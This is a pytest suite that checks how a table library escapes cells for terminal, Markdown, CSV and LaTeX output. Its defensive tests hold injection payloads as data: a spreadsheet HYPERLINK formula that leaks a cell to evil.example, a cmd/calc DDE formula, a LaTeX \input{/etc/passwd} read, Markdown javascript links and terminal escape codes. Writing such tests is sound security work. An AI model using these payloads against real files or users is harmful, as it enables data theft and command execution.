"""Tables as text: what a terminal, Markdown, a spreadsheet and LaTeX get."""

import csv

import pytest

from evaluation.tables import Column, Table, csv_text, latex, latex_text
from utils.errors import one_line
from utils.progress import log, progress
from utils.text_tables import aligned, lines_of, markdown, markdown_text, visible

RECORDS = [{"name": "a|b", "n": 1}, {"name": 'c, "d"', "n": None, "more": "x"}]


def test_records_become_lines_with_every_key():
    assert lines_of(RECORDS) == [["name", "n", "more"], ["a|b", "1", ""], ['c, "d"', "None", "x"]]


def test_columns_stand_below_each_other():
    assert (
        aligned([["name", "n"], ["long name", "1"], ["", "22"]])
        == "name       n\nlong name  1\n           22"
    )
    assert aligned([["only titles", ""]]) == "only titles"


def test_a_bar_in_a_cell_begins_no_column_in_markdown():
    lines = [["a", "b"], ["x | y", r"z \| z"]]
    assert markdown(lines) == "| a | b |\n| --- | --- |\n| x \\| y | z \\| z |"
    assert markdown(lines[:1], numbers=True) == "| a | b |\n| --- | ---: |"


def test_csv_is_read_back_by_the_standard_library():
    read = list(csv.DictReader(csv_text(RECORDS).splitlines()))
    assert read == [{"name": "a|b", "n": "1", "more": ""}, {"name": 'c, "d"', "n": "", "more": "x"}]
    assert csv_text([], ["a", "b"]) == "a,b\n"


def test_latex():
    assert latex_text("50 % \\ {x}_~^±∞&$#") == (
        r"50 \% \textbackslash{} \{x\}\_\textasciitilde{}\textasciicircum{}$\pm$$\infty$\&\$\#"
    )
    assert latex([["a", "b"], ["1", "2"]], "t").splitlines() == [
        "% t",
        r"\begin{tabular}{lr}",
        r"\toprule",
        r"a & b \\ \midrule",
        r"1 & 2 \\",
        r"\bottomrule",
        r"\end{tabular}",
    ]


# ------------------------------------------------------------------------------ names that mean something


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://evil.example?"&A2,"click")',
        "@SUM(1)",
        "+1+cmd|' /C calc'!A0",
        "-1+cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        " =1+1",
        "\uff1d1+1",
        "-",
    ],
)
def test_no_cell_is_a_formula(cell):
    head, row = csv.reader(csv_text([{cell: 1.0, "v": cell}]).splitlines())
    assert head[0] == row[1] == f"'{visible(cell)}"


def test_a_line_end_in_a_cell_begins_no_line():
    assert csv_text([{"v": "a\r=1+1\nb\t=2", "w": "c"}]) == "v,w\na\\r=1+1\\nb\\t=2,c\n"


def test_numbers_stay_numbers_in_csv():
    record = {
        "a": -1.5,
        "b": "-1.5",
        "c": "+2",
        "d": -3,
        "e": "-inf",
        "f": "1e-3",
        "g": "ID-Booth",
        "h": None,
    }
    assert csv_text([record]).splitlines()[1] == "-1.5,-1.5,+2,-3,-inf,1e-3,ID-Booth,"


@pytest.mark.parametrize(
    "name", ["T\n\\input{/etc/passwd}", "T\r\\input{x}", "T\u2028\\x", "^^5cinput{x}", "$$ x_1 \x00"]
)
def test_a_name_is_no_command_of_latex(name):
    table = Table("t", name, [Column("method", name), Column("v", "v")], [{"method": name, "v": 1.0}])
    lines = table.to_latex().splitlines()
    assert lines[0].startswith("% ") and lines[1] == r"\begin{tabular}{lr}" and len(lines) == 7
    assert not [
        line for line in lines if "\\input" in line or "^^" in line or "$$" in line.replace(r"\$", "")
    ]


@pytest.mark.parametrize(
    "text, shown",
    [
        ("<img src=//evil.example/p.png>", "&lt;img src=//evil.example/p.png&gt;"),
        ("[c](javascript:alert(1)) ![i](http://e/x)", r"\[c\](javascript:alert(1)) !\[i\](http\://e/x)"),
        ("http://evil.example https://e", r"http\://evil.example https\://e"),
        ("www.evil.example a@evil.example", r"www\.evil.example a\@evil.example"),
        ("`code` *b* _i_ ~s~ $x$ a|b", r"\`code\` \*b\* \_i\_ \~s\~ \$x\$ a\|b"),
        ("a\n# H\n---\x1b[31m\u202e", r"a \# H ---\\x1b\[31m\\u202e"),
        ("&lt; <!-- -->", "&amp;lt; &lt;!-- --&gt;"),
    ],
)
def test_a_name_is_text_in_markdown(text, shown):
    assert markdown_text(text) == shown


def test_tables_of_names_that_mean_something():
    evil = "[x](http://e) <b> `"
    table = Table(
        "t", evil, [Column("method", evil), Column("v", "v", "high")], [{"method": evil, "v": -1.5}]
    )
    assert table.to_markdown().count(markdown_text(evil)) == 3
    assert "| -1.500 |" in table.to_markdown() and "<b>" not in table._repr_html_()


def test_escape_sequences_are_shown_on_the_terminal_and_not_sent(capsys):
    evil = "ID\x1b[31m_1\u202e\x07\x9b2J"
    for _ in progress([1], desc=evil, leave=True):
        log(f"{evil}: no photos\nforged line")
        log("a table\n\tof two lines", lines=True)
    printed = capsys.readouterr().err
    assert r"ID\x1b[31m_1\u202e\x07\x9b2J: no photos" in printed and "a table\n\tof two lines\n" in printed
    assert r"no photos\nforged line" in printed and "\nforged" not in printed
    assert printed.count(r"ID\x1b[31m_1") >= 2
    assert not set(printed) & set("\x1b\x07\x9b\u202e")
    assert aligned([["name", "n"], ["a\nb\x1b[2J", "1"]]).splitlines() == [
        "name         n",
        r"a\nb\x1b[2J  1",
    ]
    assert one_line(ValueError("a\nb\x1b")) == r"a b\x1b"
    assert visible("Žiga 李 \udcff") == "Žiga 李 \\udcff"
